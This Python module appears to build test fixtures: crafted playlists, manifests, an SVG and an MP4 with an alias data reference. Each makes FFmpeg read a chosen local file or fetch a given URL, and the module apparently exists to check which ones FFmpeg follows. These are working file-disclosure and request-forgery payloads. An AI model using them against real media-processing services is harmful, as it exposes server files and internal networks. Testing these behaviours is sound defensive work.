"""Files that name other files or addresses: what FFmpeg follows when nobody forbids it, as `attack name → content`."""

import struct
from collections.abc import Mapping
from pathlib import Path


def scripts(secret: Path, url: str) -> Mapping[str, bytes]:
    """Returns texts that pose as media and name a local file, an address, or both."""
    local = f"file:{secret}"
    return {
        "ffconcat": f"ffconcat version 1.0\nfile '{secret}'\nfile '{url}'\n".encode(),
        "concat": f"file '{secret}'\nfile '{url}'\n".encode(),
        "hls": _hls(local),
        "hls over http": _hls(url),
        "hls with a key": _hls(url, f'#EXT-X-KEY:METHOD=AES-128,URI="{url}",IV=0x00\n'),
        "hls master": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}\n".encode(),
        "dash": _dash(url).encode(),
        "dash of a file": _dash(local).encode(),
        "imf": _imf(local).encode(),
        "sdp": b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 26\n",
        "asx": f'<asx version="3.0"><entry><ref href="{url}"/></entry></asx>'.encode(),
        "reference": f"[Reference]\nRef1={url}\n".encode(),
        "m3u": f"{secret}\n{url}\n".encode(),
        "xspf": f"<playlist><trackList><track><location>{url}</location></track></trackList></playlist>".encode(),
        "svg": (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" '
            f'height="64"><image xlink:href="{url}" width="64" height="64"/></svg>'
        ).encode(),
        "lavfi": f"movie={secret}".encode(),
        "avisynth": f'DirectShowSource("{secret}")\n'.encode(),
    }


def _hls(target: str, before: str = "") -> bytes:
    head = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n"
    return f"{head}{before}#EXTINF:2.0,\n{target}\n#EXT-X-ENDLIST\n".encode()


def _dash(target: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period>'
        '<AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="1" codecs="avc1.64000d" width="64" '
        f'height="64"><BaseURL>{target}</BaseURL></Representation></AdaptationSet></Period></MPD>'
    )


def _imf(target: str) -> str:
    return (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        f"<Id>urn:uuid:00000000-0000-0000-0000-000000000000</Id><EditRate>25 1</EditRate><Path>{target}</Path>"
        "</CompositionPlaylist>"
    )


def with_external_data(film: bytes, secret: Path) -> bytes:
    """Returns an MP4 (its index behind the data) whose samples are said to lie in another file, as QuickTime's alias.

    FFmpeg follows it with `-enable_drefs 1 -use_absolute_path 1`.
    """
    start = film.index(b"dref") - 4
    (size,) = struct.unpack(">I", film[start : start + 4])
    path = str(secret).encode()
    record = bytearray(150)
    struct.pack_into(">hh", record, 122, 1, 1)
    # Behind the fixed part come (type, length, value), up to the type -1; 2 is the absolute path.
    record += struct.pack(">hH", 2, len(path)) + path + b"\0" * (len(path) % 2) + struct.pack(">hH", -1, 0)
    alias = struct.pack(">I4sI", 12 + len(record), b"alis", 0) + bytes(record)
    changed = struct.pack(">I4sII", 16 + len(alias), b"dref", 0, 1) + alias
    grown = bytearray(film[:start] + changed + film[start + size :])
    for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        place = grown.index(name) - 4
        (before,) = struct.unpack_from(">I", grown, place)
        struct.pack_into(">I", grown, place, before + len(changed) - size)
    return bytes(grown)
